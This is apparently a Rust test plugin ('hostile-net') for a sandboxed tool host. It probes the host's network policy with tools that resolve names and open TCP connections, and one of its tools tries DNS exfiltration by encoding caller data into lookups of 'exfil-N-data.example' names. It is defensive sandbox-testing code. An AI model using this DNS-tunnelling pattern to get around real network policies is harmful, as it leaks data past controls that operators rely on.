//! `hostile-net`: a plugin that probes the network policy, for the network
//! tests. Name lookups go through the guest's standard library (wasi-libc's
//! `getaddrinfo`, that is `wasi:sockets/ip-name-lookup`). A tool that meets an
//! error it did not expect panics with it (`unwrap`/`expect`), so the host sees a
//! trap whose message names the error; what succeeds is returned, so a test can
//! tell an escape apart from a denial.

use std::io::Write;
use std::net::ToSocketAddrs;

use serde::Deserialize;
use toolhost_guest::{
    CallContext, Plugin, ToolDescriptor, ToolResult, Value, json, parse_args, serde_json,
};

struct HostileNet;

#[derive(Deserialize)]
struct Lookup {
    names: Vec<String>,
}

#[derive(Deserialize)]
struct Flood {
    count: u32,
    data: String,
}

#[derive(Deserialize)]
struct Connect {
    host: String,
    port: u16,
}

/// Looks up each name in turn; panics at the first that fails, naming it.
fn lookup(Lookup { names }: Lookup) -> ToolResult {
    let mut found = serde_json::Map::new();
    for name in names {
        let addresses: Vec<String> = (name.as_str(), 0)
            .to_socket_addrs()
            .unwrap_or_else(|e| panic!("looking up {name} failed: {e}"))
            .map(|a| a.ip().to_string())
            .collect();
        found.insert(name, json!(addresses));
    }
    ToolResult::success(Value::Object(found)).build()
}

/// Tries to carry `data` out in the names of `count` lookups, ignoring every
/// failure, and reports how many were answered.
fn flood(Flood { count, data }: Flood) -> ToolResult {
    let (mut resolved, mut refused) = (0u32, 0u32);
    for i in 0..count {
        match (format!("exfil-{i}-{data}.example").as_str(), 0).to_socket_addrs() {
            Ok(_) => resolved += 1,
            Err(_) => refused += 1,
        }
    }
    ToolResult::success(json!({"resolved": resolved, "refused": refused})).build()
}

fn connect(Connect { host, port }: Connect) -> ToolResult {
    let mut stream = std::net::TcpStream::connect((host.as_str(), port))
        .unwrap_or_else(|e| panic!("connecting to {host}:{port} failed: {e}"));
    stream.write_all(b"hello").expect("writing hello");
    ToolResult::success(json!({"connected": true})).build()
}

impl Plugin for HostileNet {
    fn describe() -> Vec<ToolDescriptor> {
        vec![
            ToolDescriptor::new(
                "net_lookup",
                "Looks up each of `names`; fails at the first that does not resolve.",
            )
            .input_schema(json!({
                "type": "object",
                "properties": {"names": {"type": "array", "items": {"type": "string"}}},
                "required": ["names"],
            }))
            .build(),
            ToolDescriptor::new(
                "net_lookup_flood",
                "Looks up `count` names carrying `data`, ignoring failures.",
            )
            .input_schema(json!({
                "type": "object",
                "properties": {"count": {"type": "integer"}, "data": {"type": "string"}},
                "required": ["count", "data"],
            }))
            .build(),
            ToolDescriptor::new(
                "net_connect",
                "Opens a TCP connection to host:port (a name is looked up) and writes hello.",
            )
            .input_schema(json!({
                "type": "object",
                "properties": {"host": {"type": "string"}, "port": {"type": "integer"}},
                "required": ["host", "port"],
            }))
            .build(),
        ]
    }

    fn call(name: String, arguments: String, _context: CallContext) -> ToolResult {
        match name.as_str() {
            "net_lookup" => lookup(parse_args(&arguments).unwrap()),
            "net_lookup_flood" => flood(parse_args(&arguments).unwrap()),
            "net_connect" => connect(parse_args(&arguments).unwrap()),
            other => ToolResult::unknown_tool(other).build(),
        }
    }
}

toolhost_guest::export_plugin!(HostileNet);
